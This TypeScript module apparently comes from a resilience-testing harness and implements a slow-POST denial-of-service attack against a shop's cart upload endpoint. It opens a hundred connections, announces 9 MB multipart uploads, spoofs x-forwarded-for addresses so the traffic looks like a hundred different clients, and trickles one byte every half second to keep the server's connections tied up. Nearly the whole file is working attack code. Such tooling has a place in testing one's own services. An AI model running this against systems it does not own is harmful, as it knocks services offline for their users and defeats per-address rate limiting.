import { connect, type Socket } from 'node:net'
import type { Attack } from './attack.ts'
import { pause } from './send.ts'

const CONNECTIONS = 100
const DRIP_MS = 500
const AGAIN_MS = 1_000

/** A hundred forms, each from an address of its own, of which a byte comes now and then. */
export const slowUploads: Attack = ({ host, port, goods }) => {
  const open = new Set<Socket>()
  let opened = 0
  let going = true

  async function drip(at: number): Promise<void> {
    while (going) {
      const socket = connect({ host, port })
      opened++
      open.add(socket)
      socket.write(
        [
          `POST /api/cart/new/product/${goods?.bottle ?? 1} HTTP/1.1`,
          `host: ${host}`,
          `x-forwarded-for: 203.0.113.${at}`,
          'content-type: multipart/form-data; boundary=X',
          'content-length: 9000000',
          '',
          '--X\r\ncontent-disposition: form-data; name="images"; filename="a.png"\r\ncontent-type: image/png\r\n\r\n',
        ].join('\r\n'),
      )
      const more = setInterval(() => socket.write('x'), DRIP_MS)
      await new Promise<void>((gone) => {
        socket.on('error', () => gone())
        socket.on('close', () => gone())
        socket.resume()
      })
      clearInterval(more)
      open.delete(socket)
      await pause(AGAIN_MS)
    }
  }
  for (let one = 0; one < CONNECTIONS; one++) void drip(one)
  return {
    report: () => `${opened} connections opened, ${open.size} held`,
    stop() {
      going = false
      for (const socket of open) socket.destroy()
    },
  }
}
